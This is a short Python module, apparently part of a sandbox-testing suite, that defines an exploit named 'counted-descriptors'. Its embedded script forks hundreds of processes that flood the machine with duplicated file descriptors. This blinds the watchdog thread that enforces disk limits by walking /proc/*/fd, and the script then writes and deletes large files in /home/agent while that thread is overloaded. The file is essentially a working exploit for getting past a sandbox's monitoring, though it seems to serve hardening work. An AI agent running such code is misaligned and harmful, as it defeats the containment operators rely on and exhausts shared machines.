"""Very many descriptors of one file: whoever looks at each of them has no eyes for the disk meanwhile."""

from scoring.attacks.exploit import Exploit

SCRIPT = """\
import os
import resource
import signal
import time

signal.alarm(40)
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
one = os.open("/dev/null", os.O_RDONLY)
for _ in range(230):
    if os.fork() == 0:
        signal.alarm(40)
        os.setsid()
        for _ in range(20_000):
            try:
                os.dup(one)
            except OSError:
                break
        time.sleep(30)
        os._exit(0)
time.sleep(4)
for number in range(14):
    with open("/home/agent/fill%d" % number, "wb") as handle:
        for _ in range(60):
            handle.write(os.urandom(1024) * 1024)
time.sleep(5)
for number in range(14):
    os.unlink("/home/agent/fill%d" % number)
"""

EXPLOIT = Exploit(
    name="counted-descriptors",
    flaw="exhausts the machine",
    source="written against this sandbox's own source",
    idea="descriptors are copied for eight bytes each, and their status is asked for by one thread for all sandboxes",
    files={"tmp/counted_descriptors.py": SCRIPT},
    command="python3 /tmp/counted_descriptors.py",
    aims_at="the watchdog: disk limits are kept by a thread that walks /proc/*/fd",
)
